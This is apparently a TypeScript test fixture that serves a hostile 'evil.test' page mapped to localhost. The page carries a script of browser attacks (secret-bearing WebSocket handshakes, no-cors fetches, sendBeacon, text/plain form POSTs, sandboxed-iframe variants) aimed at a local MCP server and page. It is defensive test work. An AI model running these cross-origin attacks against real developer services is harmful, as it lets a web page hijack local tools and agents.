/** A page of somebody else, in the developer's own browser. It knows both ports and even the link's secret. */
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

/** Resolves to this machine in a browser that was started with `REBIND`. */
export const EVIL_NAME = "evil.test";
export const REBIND = `--host-resolver-rules=MAP ${EVIL_NAME} 127.0.0.1`;

export interface Target {
  readonly mcp: string;
  readonly page: string;
  readonly secret: string;
  /** What a native agent would post. */
  readonly body: string;
}

/** What the page can do by itself. Every function settles; `true` means that something came back that it can use. */
const ARSENAL = `
  const opens = (address, secret) => new Promise((resolve) => {
    const socket = new WebSocket(address);
    socket.onopen = () => socket.send(JSON.stringify({ id: 0, name: "hello", params: { secret } }));
    socket.onmessage = () => resolve(true);
    socket.onerror = socket.onclose = () => resolve(false);
  });
  const answers = (url, options) => fetch(url, options).then((response) => response.ok, () => false);
  const loads = (element, attributes) => new Promise((resolve) => {
    Object.assign(element, attributes);
    element.onload = () => resolve(element.tagName !== "IFRAME");
    element.onerror = () => resolve(false);
    document.body.append(element);
  });
  const streams = (url) => new Promise((resolve) => {
    const source = new EventSource(url);
    source.onopen = () => resolve(true);
    source.onerror = () => { source.close(); resolve(false); };
  });
  const posts = (action, value) => new Promise((resolve) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "sink" });
    const form = Object.assign(document.createElement("form"), { action, method: "post", enctype: "text/plain", target: "sink" });
    form.append(Object.assign(document.createElement("input"), { name: value, value: "" }));
    document.body.append(frame, form);
    frame.onload = () => resolve(false);
    form.submit();
  });
  async function attack({ mcp, page, secret, body }) {
    const channel = page.replace("http", "ws") + "channel";
    const json = { "Content-Type": "application/json" };
    return {
      channel: await opens(channel, secret),
      mcpSocket: await opens(mcp.replace("http", "ws"), secret),
      post: await answers(mcp, { method: "POST", mode: "no-cors", body }),
      postJson: await answers(mcp, { method: "POST", headers: json, body }),
      beacon: navigator.sendBeacon(mcp, body) && false,
      get: await answers(mcp, { mode: "no-cors" }),
      getPage: await answers(page, { mode: "no-cors" }),
      stream: await streams(mcp),
      image: await loads(new Image(), { src: page + "icon.svg" }),
      frame: await loads(document.createElement("iframe"), { src: page }),
      form: await posts(mcp, body),
    };
  }
  async function attackFromSandbox(target) {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts allow-forms";
    const script = document.getElementById("arsenal").textContent;
    frame.srcdoc = "<body><script id=arsenal>" + script + "<\\/script><script>onmessage = async ({ data }) => " +
      "parent.postMessage(await attack(data), '*')<\\/script>";
    await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
    return new Promise((resolve) => {
      onmessage = ({ data }) => resolve(data);
      frame.contentWindow.postMessage(target, "*");
    });
  }
`;

export async function serveEvilPage(): Promise<{ readonly url: string; close(): void }> {
  const server = createServer((_, response) => {
    response.setHeader("Content-Type", "text/html");
    response.end(`<!doctype html><body><script id="arsenal">${ARSENAL}</script>`);
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://${EVIL_NAME}:${port}/`,
    close: () => {
      server.close();
      server.closeAllConnections();
    },
  };
}
